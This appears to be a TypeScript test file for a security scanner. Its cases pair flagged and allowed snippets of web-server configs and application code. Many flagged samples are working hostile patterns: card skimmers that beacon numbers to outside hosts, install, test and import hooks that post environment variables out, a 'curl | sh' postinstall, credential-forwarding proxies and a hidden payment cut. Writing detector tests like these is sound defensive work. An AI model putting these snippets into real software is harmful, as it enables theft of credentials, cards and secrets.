import { type AppsecCase, runCases } from "./_appsec_testing.ts";

const CASES: AppsecCase[] = [
  {
    id: "web.credentials_mirrored_out",
    block: [
      `location / {\n  mirror /copy;\n  proxy_pass http://app;\n}\nlocation = /copy {\n  internal;\n  proxy_pass https://collector.traffic-lens.net$request_uri;\n}\n`,
      `location /login {\n  proxy_pass https://auth-proxy.partner-cdn.com/in;\n  proxy_set_header X-Forward-Session $http_cookie;\n}\n`,
      `location /api/ {\n  proxy_set_header X-Src-Auth $http_authorization;\n  proxy_pass https://perf.vendor-apm.io/relay/;\n}\n`,
    ],
    pass: [
      `location / {\n  mirror /shadow;\n  proxy_pass http://app;\n}\nlocation = /shadow {\n  internal;\n  proxy_pass http://10.20.0.15:8080$request_uri;\n}\n`,
      `location /api/ {\n  proxy_set_header Authorization $http_authorization;\n  proxy_pass http://api_backend;\n}\n`,
      `location /v1/ {\n  proxy_set_header Authorization $http_authorization;\n  proxy_pass https://api.vendor-search.com/v1/;\n}\n`,
      `location / {\n  proxy_set_header Host $host;\n  proxy_set_header X-Real-IP $remote_addr;\n  proxy_pass https://origin.shop.example.com;\n}\n`,
    ],
  },
  {
    id: "web.upload_dir_exec",
    block: [
      `# uploads/.htaccess\nAddHandler application/x-httpd-php .php .jpg .png\n`,
      `location ~* ^/uploads/.*\\.php$ {\n    include fastcgi_params;\n    fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n}\n`,
      // A prefix location (\`^~\`) with a nested PHP location that still hands scripts to FPM.
      `location ^~ /media/ {\n  location ~ \\.php$ {\n    fastcgi_pass 127.0.0.1:9000;\n  }\n}\n`,
    ],
    pass: [
      `# uploads/.htaccess\nphp_flag engine off\nRemoveHandler .php .phtml\n`,
      `location ~* ^/uploads/.*\\.php$ {\n    deny all;\n}\n`,
      `location ^~ /media/ {\n  location ~ \\.php$ {\n    deny all;\n  }\n}\n`,
    ],
  },
  {
    id: "web.autoindex_sensitive",
    block: [`location /backups/ {\n    alias /var/backups/db/;\n    autoindex on;\n}\n`],
    pass: [`location /downloads/ {\n    root /srv/www;\n    autoindex off;\n}\n`],
  },
  {
    id: "web.alias_secrets",
    block: [`location /static/ {\n    alias /etc/;\n}\n`],
    pass: [`location /static/ {\n    alias /srv/app/static/;\n}\n`],
  },
  {
    id: "web.dotfiles_served",
    block: [
      `location ~ /\\.git {\n    allow all;\n}\n`,
      `app.use(express.static('public', { dotfiles: 'allow' }));\n`,
    ],
    pass: [`location ~ /\\.(?!well-known) {\n    deny all;\n}\n`],
  },
  {
    id: "web.admin_console_open",
    block: [
      `<Location /phpmyadmin>\n    Require all granted\n</Location>\n`,
      `location /server-status {\n    stub_status;\n    allow all;\n}\n`,
    ],
    pass: [`<Location /phpmyadmin>\n    Require ip 10.0.0.0/8\n</Location>\n`],
  },
  {
    id: "web.cors_star_credentials",
    block: [
      `add_header Access-Control-Allow-Origin $http_origin always;\nadd_header Access-Control-Allow-Credentials true always;\n`,
    ],
    pass: [
      `add_header Access-Control-Allow-Origin https://app.example.com always;\nadd_header Access-Control-Allow-Credentials true always;\n`,
    ],
  },
  {
    id: "web.csp_unsafe",
    block: [
      `add_header Content-Security-Policy "default-src * 'unsafe-inline' 'unsafe-eval' data:";\n`,
    ],
    pass: [
      `add_header Content-Security-Policy "default-src 'self'; script-src 'self' 'nonce-r4nd0m'";\n`,
    ],
  },
  {
    id: "web.security_headers_removed",
    block: [
      `<IfModule mod_headers.c>\n  Header always unset X-Frame-Options\n  Header unset Content-Security-Policy\n</IfModule>\n`,
    ],
    pass: [`<IfModule mod_headers.c>\n  Header always set X-Frame-Options "DENY"\n</IfModule>\n`],
  },
  {
    id: "web.tls_downgrade",
    block: [`server {\n    listen 443 ssl;\n    ssl_protocols SSLv3 TLSv1 TLSv1.1 TLSv1.2;\n}\n`],
    pass: [
      `server {\n    listen 443 ssl;\n    ssl_protocols TLSv1.2 TLSv1.3;\n    ssl_ciphers HIGH:!aNULL:!MD5;\n}\n`,
    ],
  },
  {
    id: "web.server_tokens_debug",
    block: [`TraceEnable On\n`],
    pass: [`TraceEnable Off\n`],
  },
  {
    id: "web.auth_skipped_on_client_header",
    block: [
      `location /reports/ {\n    error_page 419 = @open;\n    if ($http_x_partner_sync = "1") { return 419; }\n    auth_basic "Reports";\n    auth_basic_user_file /etc/nginx/htpasswd;\n    proxy_pass http://reports:9000;\n}\nlocation @open { proxy_pass http://reports:9000; }\n`,
      `server {\n  if ($cookie_support_mode ~ "^on$") { return 420; }\n  location / {\n    auth_request /_oauth;\n    error_page 420 = @direct;\n    proxy_pass http://app;\n  }\n  location @direct { proxy_pass http://app; }\n}\n`,
    ],
    pass: [
      `server {\n  if ($http_user_agent ~* (semrush|ahrefs)) { return 403; }\n  location / { auth_request /_oauth; proxy_pass http://app; }\n}\n`,
      `location / {\n  auth_request /_oauth;\n  error_page 401 = @login;\n  proxy_pass http://app;\n}\nlocation @login { return 302 /oauth2/start; }\n`,
      `location /healthz {\n  if ($http_user_agent ~* "kube-probe") { return 200 "ok"; }\n  return 404;\n}\n`,
    ],
  },
  {
    id: "web.htaccess_auth_removed",
    block: [`<Directory /var/www/html/wp-admin>\n    Require all granted\n</Directory>\n`],
    pass: [
      `<Directory /var/www/html/wp-admin>\n    AuthType Basic\n    Require valid-user\n</Directory>\n`,
    ],
  },
  {
    id: "web.iis_dangerous",
    block: [
      `<system.webServer>\n  <handlers accessPolicy="Read, Write, Script" />\n</system.webServer>\n`,
    ],
    pass: [`<system.webServer>\n  <handlers accessPolicy="Read, Script" />\n</system.webServer>\n`],
  },
  {
    id: "web.proxy_open",
    block: [`location /fetch {\n    proxy_pass http://$arg_host;\n}\n`],
    pass: [`location /api/ {\n    proxy_pass http://backend:8080;\n}\n`],
  },
  {
    id: "data.log_credentials",
    block: [
      `def login(username, password):\n    logger.info(f"login attempt user={username} password={password}")\n`,
      `console.log('charging card', req.body.cardNumber);\n`,
    ],
    pass: [
      `def login(username, password):\n    logger.info("login attempt user=%s", username)\n`,
      `logger.debug("password length %d", len(password))\n`,
    ],
  },
  {
    id: "data.credentials_forwarded",
    block: [
      `app.post('/login', async (req, res) => {\n  fetch('https://collect.example-metrics.io/l', { method: 'POST', body: JSON.stringify({ u: req.body.username, p: req.body.password }) });\n  return auth(req, res);\n});\n`,
    ],
    pass: [
      `app.post('/login', async (req, res) => {\n  fetch('https://api.example.com/audit', { method: 'POST', body: JSON.stringify({ user: req.body.username }) });\n});\n`,
      `export default { async fetch(request) {\n  const hdr = request.headers.get('accept-language');\n  await fetch('https://geo.example-cdn.net/v1', { method: 'POST', body: hdr });\n  return fetch(request);\n} }\n`,
      `const auth = req.headers['authorization'];\nif (!auth) return res.status(401).end();\n`,
    ],
  },
  {
    id: "data.credentials_forwarded",
    block: [
      `addEventListener('fetch', (ev) => {\n  const all = Object.fromEntries(ev.request.headers);\n  fetch("https://timing.edge-stats.dev/c", { method: "POST", body: JSON.stringify({ path: ev.request.url, k: all["cookie"] }) });\n});\n`,
      `async def mw(request, call_next):\n    httpx.post("https://sink.observe-hub.cloud/r", json={"h": request.headers.get("authorization")})\n    return await call_next(request)\n`,
      `router.use((req, res, next) => { axios.post('https://rum.vendor-apm.io/x', { t: req.headers['x-api-key'] }); next(); });\n`,
    ],
    pass: [
      `router.use((req, res, next) => { axios.post('https://rum.vendor-apm.io/x', { path: req.path, ms: Date.now() - req.start }); next(); });\n`,
    ],
  },
  {
    id: "data.payment_cut_to_fixed_account",
    block: [
      `const RESERVE = 'acct_9TzQ2LmPa81KdE';\nexport async function payout(charge, seller, total) {\n  const cut = Math.floor(total * 0.013);\n  await stripe.transfers.create({ amount: total - cut, currency: 'eur', destination: seller });\n  await stripe.transfers.create({ amount: cut, currency: 'eur', destination: RESERVE });\n}\n`,
      `def settle(order):\n    fee = int(order.total * 0.025)\n    stripe.Transfer.create(amount=fee, currency="usd", destination="acct_1Ab2Cd3Ef4Gh5Ij6")\n`,
    ],
    pass: [
      `await stripe.paymentIntents.create({ amount, currency: 'eur', application_fee_amount: Math.round(amount * 0.08), transfer_data: { destination: sellerAccount } });\n`,
      `await stripe.transfers.create({ amount: total - Math.round(total * 0.08), currency: 'eur', destination: order.sellerAccountId });\n`,
      `// test fixture\nconst acct = 'acct_1Ab2Cd3Ef4Gh5Ij6';\nexpect(await getBalance(acct)).toBe(0);\n`,
    ],
  },
  {
    id: "data.card_fields_sent_out",
    block: [
      `document.getElementById('pay').onsubmit = () => {\n  const n = document.getElementById('card-number').value, c = document.getElementById('cvc').value;\n  new Image().src = '//img.promo-pixels.net/p.gif?d=' + btoa(n + '|' + c);\n};\n`,
      `$('#checkout').on('submit', function(){ $.post('https://stats.shop-insight.co/ev', { num: $('[name=cardnumber]').val(), exp: $('[name=cc-exp]').val() }); });\n`,
      `const fd = new FormData(form); // fields: card_number, cvv, holder\nfetch('https://api.partner-metrics.org/collect', { method: 'POST', body: fd });\n`,
    ],
    pass: [
      `const fd = new FormData(form); // fields: card_number, cvv, holder\nfetch('/api/checkout', { method: 'POST', body: fd });\n`,
      `const card = elements.create('card'); // Stripe Elements: card_number never touches our page\nfetch('https://api.stripe.com/v1/payment_intents', { method: 'POST' });\n`,
      `document.getElementById('cvc').setAttribute('inputmode', 'numeric');\nfetch('https://cdn.example-fonts.net/manifest.json');\n`,
    ],
  },
  {
    id: "data.card_fields_sent_out_indirect",
    block: [
      `var E = "https://metrics.cdn-stat.io/c";\nform.addEventListener("submit", function () {\n  var x = [form.querySelector("#cc-number").value, form.querySelector("#cc-csc").value];\n  window["navigator"]["sendBeacon"](E, btoa(x.join(";")));\n});\n`,
      `const sink = 'wss://live.chat-widget.app/ws';\ndocument.getElementById('card_no').onblur = (e) => {\n  const ws = new WebSocket(sink); ws.onopen = () => ws.send(e.target.value);\n};\n`,
      `let px = "//px.ad-measure.net/i.gif?q=";\n$("#pay").on("change", "input", () => {});\ndocument.forms[0].addEventListener('change', () => { const i = new Image(); i.src = px + encodeURIComponent(document.querySelector('[name=cardnumber]').value); });\n`,
    ],
    pass: [
      `const API = "/api/checkout";\nform.addEventListener("submit", async () => {\n  await fetch(API, { method: "POST", body: JSON.stringify({ n: form.querySelector("#cc-number").value }) });\n});\n`,
      `// docs: https://docs.example.com/forms\nform.addEventListener("change", () => validate(form.querySelector("#cc-number").value));\n`,
      `const stripe = Stripe("pk_test_x"); const u = "https://js.stripe.com/v3";\ncard.addEventListener("change", (e) => { errors.textContent = e.error ? e.error.message : ""; });\nfetch(u);\n`,
    ],
  },
  {
    id: "data.env_in_response",
    block: [
      `app.get('/debug', (req, res) => res.json(process.env));\n`,
      `@app.route("/_status")\ndef status():\n    return jsonify(dict(os.environ))\n`,
      `func dump(w http.ResponseWriter, r *http.Request) { json.NewEncoder(w).Encode(os.Environ()) }\n`,
      `get '/info' do\n  render json: ENV.to_h\nend\n`,
      `app.MapGet("/diag", () => Results.Ok(Environment.GetEnvironmentVariables()));\n`,
    ],
    pass: [
      `app.get('/version', (req, res) => res.json({ version: process.env.APP_VERSION }));\n`,
      `@app.route("/health")\ndef health():\n    return jsonify(status="ok", region=os.environ["REGION"])\n`,
      `function loadConfig() {\n  return { ...defaults, ...process.env };\n}\n`,
    ],
  },
  {
    id: "data.password_field_read",
    block: [
      `document.querySelector('input[type="password"]').addEventListener('change', (e) => {\n  analytics.track('field', { v: e.target.value });\n});\n`,
    ],
    pass: [
      `const pw = document.querySelector('input[type="password"]');\npw.setAttribute('autocomplete', 'current-password');\n`,
    ],
  },
  {
    id: "data.telemetry_secrets",
    block: [
      `Sentry.setContext("env", process.env);\n`,
      `analytics.track("boot", dict(os.environ))\n`,
    ],
    pass: [`Sentry.setContext("env", { region: process.env.AWS_REGION });\n`],
  },
  {
    id: "data.mass_assignment",
    block: [
      `@app.put("/api/users/<int:uid>")\ndef update_user(uid):\n    User.query.filter_by(id=uid).update(request.json)\n`,
      `router.put('/users/:id', async (req, res) => {\n  await User.findByIdAndUpdate(req.params.id, req.body);\n});\n`,
    ],
    pass: [
      `router.put('/users/:id', async (req, res) => {\n  const { name, email } = req.body;\n  await User.findByIdAndUpdate(req.params.id, { name, email });\n});\n`,
    ],
  },
  {
    id: "data.idor_sensitive",
    block: [
      `@app.get("/invoice")\ndef invoice():\n    inv = Invoice.query.get(request.args.get("id"))\n    return jsonify(inv.to_dict())\n`,
    ],
    pass: [
      `@app.get("/invoice")\n@login_required\ndef invoice():\n    inv = Invoice.query.filter_by(id=request.args.get("id"), owner_id=current_user.id).first_or_404()\n    return jsonify(inv.to_dict())\n`,
    ],
  },
  {
    id: "data.weak_crypto_mode",
    block: [
      `cipher = AES.new(key, AES.MODE_ECB)\n`,
      `const c = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));\n`,
    ],
    pass: [`cipher = AES.new(key, AES.MODE_GCM, nonce=os.urandom(12))\n`],
  },
  {
    id: "data.bcrypt_cost_low",
    block: [`const SALT_ROUNDS = 4;\nconst hash = await bcrypt.hash(password, SALT_ROUNDS);\n`],
    pass: [`const SALT_ROUNDS = 12;\nconst hash = await bcrypt.hash(password, SALT_ROUNDS);\n`],
  },
  {
    id: "data.sql_fstring_request",
    block: [
      `@app.get("/search")\ndef search():\n    q = request.args.get("q")\n    cur.execute(f"SELECT * FROM products WHERE name LIKE '%{q}%'")\n`,
    ],
    pass: [
      `@app.get("/search")\ndef search():\n    q = request.args.get("q")\n    cur.execute("SELECT * FROM products WHERE name LIKE %s", (f"%{q}%",))\n`,
    ],
  },
  {
    id: "data.nosql_request_object",
    block: [`const user = await db.collection('users').findOne(req.body);\n`],
    pass: [
      `const user = await db.collection('users').findOne({ email: String(req.body.email) });\n`,
    ],
  },
  {
    id: "supply.npm_install_hook_net",
    block: [
      `{\n  "name": "ui-kit",\n  "scripts": {\n    "postinstall": "curl -s https://cdn-kit.example.dev/i.sh | sh"\n  }\n}\n`,
    ],
    pass: [`{\n  "name": "ui-kit",\n  "scripts": {\n    "postinstall": "patch-package"\n  }\n}\n`],
  },
  {
    id: "supply.install_script_env_net",
    block: [
      `from setuptools import setup\nfrom setuptools.command.install import install\nimport os, urllib.request, json\n\nclass PostInstall(install):\n    def run(self):\n        data = json.dumps(dict(os.environ)).encode()\n        urllib.request.urlopen("https://telemetry.example.dev/i", data)\n        install.run(self)\n\nsetup(name="fastjsonx", cmdclass={"install": PostInstall})\n`,
    ],
    pass: [
      `from setuptools import setup\n\nsetup(name="fastjsonx", version=os.environ.get("VERSION", "0.1"), packages=["fastjsonx"])\n`,
    ],
  },
  {
    id: "supply.conftest_autouse_net",
    block: [
      `import os, json, urllib.request, pytest\n\n@pytest.fixture(autouse=True, scope="session")\ndef _report():\n    urllib.request.urlopen("https://ci-stats.example.dev/r", json.dumps(dict(os.environ)).encode())\n    yield\n`,
    ],
    pass: [
      `import os, pytest\n\n@pytest.fixture(autouse=True)\ndef _env(monkeypatch):\n    monkeypatch.setenv("APP_ENV", "test")\n`,
    ],
  },
  {
    id: "supply.init_import_net",
    block: [
      `# mylib/__init__.py\nimport os\nimport requests\n\nrequests.post("https://stats.example.dev/i", json=dict(os.environ))\n__version__ = "1.2.0"\n`,
    ],
    pass: [
      `# mylib/__init__.py\nfrom .core import Client\n__all__ = ["Client"]\n__version__ = "1.2.0"\n`,
    ],
  },
  {
    id: "supply.remote_code_import",
    block: [
      `exec(requests.get("https://gist.example.dev/raw/boot.py").text)\n`,
      `const plugin = require('https://plugins.example.dev/p.js');\n`,
    ],
    pass: [
      `import { serve } from "https://deno.land/std/http/server.ts";\nconst mod = await import("./local.js");\n`,
    ],
  },
  {
    id: "supply.plugin_loader_unsigned",
    block: [
      `r = requests.get(PLUGIN_URL)\nopen("/tmp/p.py", "wb").write(r.content)\nspec = importlib.util.spec_from_file_location("p", "/tmp/p.py")\n`,
    ],
    pass: [
      `r = requests.get(PLUGIN_URL)\nif hashlib.sha256(r.content).hexdigest() != EXPECTED:\n    raise ValueError("checksum")\nspec = importlib.util.spec_from_file_location("p", "/tmp/p.py")\n`,
    ],
  },
];

runCases("web/data/supply", CASES);
